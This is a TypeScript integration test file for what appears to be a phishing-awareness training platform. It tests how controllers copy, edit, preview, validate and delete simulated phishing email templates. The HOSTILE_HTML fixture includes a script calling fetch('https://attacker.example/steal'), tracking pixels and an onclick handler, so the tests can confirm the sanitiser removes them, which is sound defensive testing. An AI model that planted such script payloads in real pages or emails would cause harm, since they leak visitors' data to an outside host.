import {
  LOCALES,
  SURVEYS,
  type TCampaign,
  type TPhishingDomain,
  type TTemplatePreview,
  type TTemplateSummary,
} from "@wellguard/contract";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  type ApiClient,
  type ApiResponse,
  addFederatedPerson,
  apiClient,
  codeOf,
  startTestServer,
  type TestServer,
  testDatabases,
} from "../../test/harness";

/*
 * Company copies of templates over HTTP (docs/phishing.md "Company copies"; issue 17 point 1): a controller copies
 * a built-in template in one language, edits it, previews it with a real person's merge fields and deletes it;
 * the HTML is sanitised and the answer names what the sanitiser took out.
 */

type Saved = TTemplateSummary & { removedBySanitiser: string[] };

const HOSTILE_HTML = [
  "<h1>Your password expires today, {{firstName}}</h1>",
  "<script>fetch('https://attacker.example/steal')</script>",
  '<p style="background:url(https://tracker.example/bg.png)">Keep it with one click.</p>',
  '<img src="https://tracker.example/pixel.png" alt="Logo">',
  '<p><a href="https://real-bank.example/login" target="_blank" onclick="steal()">Keep my password</a></p>',
].join("\n");

describe.each(testDatabases())("company copies of phishing templates (%s)", (kind) => {
  let server: TestServer;
  let api: ApiClient;
  let controller: string;
  let companyId: number;
  let employee: { id: number; name: string };
  const base = () => `/api/v1/controller/campaigns/${companyId}`;
  const remove = (path: string) =>
    api.call<{ records: { templateId: number } }>("DELETE", path, { token: controller });

  /** A valid copy of built-in template 2 in British English; `change` replaces some fields. */
  const copyBody = (change: Record<string, unknown> = {}) => ({
    basedOn: 2,
    locale: "en-gb",
    name: "Password expiry, our wording",
    senderName: "IT Service Desk",
    senderLocal: "it-desk",
    subject: "Your password expires today",
    html: '<p>Hello {{firstName}}</p><p><a href="{{link}}">Keep my password</a></p>',
    text: "Hello {{firstName}}. Keep your password: {{link}}",
    ...change,
  });

  beforeAll(async () => {
    server = await startTestServer(kind);
    api = apiClient(server.baseUrl);
    controller = await api.token("controller");
    const company = await server.db
      .selectFrom("companies")
      .select("id")
      .where("name", "=", "Demo Corp")
      .executeTakeFirstOrThrow();
    companyId = company.id;
    employee = await server.db
      .selectFrom("people")
      .select(["id", "name"])
      .where("login", "=", "employee")
      .executeTakeFirstOrThrow();
  }, 60_000);

  afterAll(async () => {
    await server?.close();
  });

  it("copies a built-in template, sanitises its HTML and names what the sanitiser removed", async () => {
    const saved = await api.post<{ records: Saved }>(
      `${base()}/template`,
      copyBody({ html: HOSTILE_HTML }),
      controller,
    );
    expect(saved.status).toBe(200);
    expect(saved.body.records).toMatchObject({
      basedOn: 2,
      locale: "en-gb",
      name: "Password expiry, our wording",
      subject: "Your password expires today",
      removedBySanitiser: ["a[onclick]", "img[src]", "p[style]", "script"],
    });
    const id = saved.body.records.templateId;
    expect(id).toBeGreaterThan(1_000);

    const listed = await api.get<{ records: TTemplateSummary[] }>(`${base()}/templates/7`, controller);
    expect(listed.body.records.find((t) => t.templateId === id)).toMatchObject({
      basedOn: 2,
      locale: "en-gb",
    });
    const preview = await api.get<{ records: TTemplatePreview }>(`${base()}/template/${id}`, controller);
    const { html, source } = preview.body.records;
    for (const gone of [
      "<script",
      "attacker.example",
      "tracker.example",
      "real-bank.example",
      "onclick",
      "_blank",
    ])
      expect(html + source.html).not.toContain(gone);
    expect(source.html).toContain('<a href="{{link}}">Keep my password</a>');
    expect(source.html).toContain('<img alt="Logo">');
  });

  it("copies every built-in template's own source unchanged: the sanitiser removes nothing from it", async () => {
    const all = await api.get<{ records: TTemplateSummary[] }>(`${base()}/templates/7`, controller);
    const builtins = all.body.records.filter((t) => t.basedOn === null);
    expect(builtins.length).toBeGreaterThanOrEqual(30);
    for (const [i, template] of builtins.entries()) {
      const locale = LOCALES[i % LOCALES.length] as string;
      const preview = await api.get<{ records: TTemplatePreview }>(
        `${base()}/template/${template.templateId}?locale=${locale}`,
        controller,
      );
      const saved = await api.post<{ records: Saved }>(
        `${base()}/template`,
        { basedOn: template.templateId, locale, name: `Copy ${i}`, ...preview.body.records.source },
        controller,
      );
      expect(saved.status, `template ${template.templateId} in ${locale}`).toBe(200);
      expect(saved.body.records.removedBySanitiser, `template ${template.templateId}`).toEqual([]);
      expect((await remove(`${base()}/template/${saved.body.records.templateId}`)).status).toBe(200);
    }
  });

  it("saves an edit, and previews the copy in its own language with the chosen person's merge fields", async () => {
    const made = await api.post<{ records: Saved }>(`${base()}/template`, copyBody(), controller);
    const id = made.body.records.templateId;
    const edited = await api.put<{ records: Saved }>(
      `${base()}/template/${id}`,
      copyBody({
        locale: "pl",
        name: "Wygasające hasło",
        subject: "{{firstName}}, Twoje hasło wygasa dziś",
        senderLocal: "  Pomoc.IT  ",
      }),
      controller,
    );
    expect(edited.status).toBe(200);
    expect(edited.body.records).toMatchObject({
      locale: "pl",
      name: "Wygasające hasło",
      removedBySanitiser: [],
    });

    // Another language asked for: a copy is only ever in its own.
    const preview = await api.get<{ records: TTemplatePreview }>(
      `${base()}/template/${id}?personId=${employee.id}&locale=es-es`,
      controller,
    );
    expect(preview.status).toBe(200);
    expect(preview.body.records).toMatchObject({
      locale: "pl",
      basedOn: 2,
      subject: `${employee.name}, Twoje hasło wygasa dziś`,
      source: { subject: "{{firstName}}, Twoje hasło wygasa dziś", senderLocal: "pomoc.it" },
    });
    expect(preview.body.records.senderAddress).toMatch(/^pomoc\.it@/);
    expect(preview.body.records.html).toContain(`Hello ${employee.name}`);
    // The cues and landing page stay the built-in template's.
    expect(preview.body.records.cues.length).toBeGreaterThanOrEqual(3);
  });

  it("refuses a copy without the tracking link, with fields too long, missing or malformed, each with its code", async () => {
    const refused = async (change: Record<string, unknown>) =>
      codeOf(await api.post(`${base()}/template`, copyBody(change), controller));
    expect(await refused({ html: "<p>No link at all</p>" })).toBe("ND1027");
    // A link inside something the sanitiser removes is no link.
    expect(await refused({ html: '<form><button formaction="x">Go</button></form><p>Hi</p>' })).toBe(
      "ND1027",
    );
    expect(await refused({ text: "No link in the plain text" })).toBe("ND1027");
    expect(await refused({ subject: "x".repeat(201) })).toBe("ND1007");
    expect(await refused({ name: "x".repeat(121) })).toBe("ND1007");
    expect(await refused({ senderName: "x".repeat(81) })).toBe("ND1007");
    expect(await refused({ html: `<p><a href="{{link}}">x</a></p>${"y".repeat(100_000)}` })).toBe("ND1007");
    expect(await refused({ name: "   " })).toBe("ND1018");
    expect(await refused({ subject: "" })).toBe("ND1018");
    expect(await refused({ senderLocal: "it desk@evil" })).toBe("ND1027");
    expect(await refused({ senderLocal: "-desk" })).toBe("ND1027");
    expect(await refused({ basedOn: 999 })).toBe("ND1000");
    expect(await refused({ locale: "xx-yy" })).toBe("NF1006");
  });

  it("never changes a built-in template, nor previews a person of another company", async () => {
    const changed = await api.put(`${base()}/template/2`, copyBody(), controller);
    expect(changed.status).toBe(404);
    expect(codeOf(changed)).toBe("ND1000");
    expect((await remove(`${base()}/template/2`)).status).toBe(404);

    await addFederatedPerson(server.db, {
      company: "Other Industries",
      domain: "other-industries.example",
      federationUrl: "https://sso.other-industries.example",
      login: "outsider",
    });
    const outsider = await server.db
      .selectFrom("people")
      .select("id")
      .where("login", "=", "outsider")
      .executeTakeFirstOrThrow();
    const preview = await api.get(`${base()}/template/2?personId=${outsider.id}`, controller);
    expect(preview.status).toBe(404);
    expect(codeOf(preview)).toBe("ND1000");
    expect(JSON.stringify(preview.body)).not.toContain("outsider");
  });

  it("deletes a copy no campaign used, and refuses (ND1027) to delete one a campaign uses", async () => {
    const used = (await api.post<{ records: Saved }>(`${base()}/template`, copyBody(), controller)).body
      .records;
    const spare = (await api.post<{ records: Saved }>(`${base()}/template`, copyBody(), controller)).body
      .records;
    const domains = await api.get<{ records: TPhishingDomain[] }>(`${base()}/domains`, controller);
    const sales = await server.db
      .selectFrom("departments")
      .select("id")
      .where("company_id", "=", companyId)
      .where("name", "=", "Sales")
      .executeTakeFirstOrThrow();
    const at = (days: number) =>
      new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 19).replace("T", " ");
    const campaign: ApiResponse<{ records: TCampaign }> = await api.post(
      base(),
      {
        name: "Uses our copy",
        campaignKind: "phishing",
        domain: domains.body.records[0]?.domainId,
        campaignTypeId: 1,
        surveyTypeId: SURVEYS.SURVEY_WELLGUARD_PHISHING,
        templateId: used.templateId,
        timeZone: "Europe/Madrid",
        startDate: at(2),
        stakeholders: { type: "DEPARTMENTS", ids: [sales.id] },
      },
      controller,
    );
    expect(campaign.status).toBe(200);
    expect(campaign.body.records).toMatchObject({
      templateId: used.templateId,
      templateName: "Password expiry, our wording",
    });

    const refused = await remove(`${base()}/template/${used.templateId}`);
    expect(codeOf(refused)).toBe("ND1027");
    expect((await api.get(`${base()}/template/${used.templateId}`, controller)).status).toBe(200);

    const deleted = await remove(`${base()}/template/${spare.templateId}`);
    expect(deleted.status).toBe(200);
    expect(deleted.body.records).toEqual({ templateId: spare.templateId });
    expect(codeOf(await api.get(`${base()}/template/${spare.templateId}`, controller))).toBe("ND1000");
    expect(codeOf(await remove(`${base()}/template/${spare.templateId}`))).toBe("ND1000");
  });
});
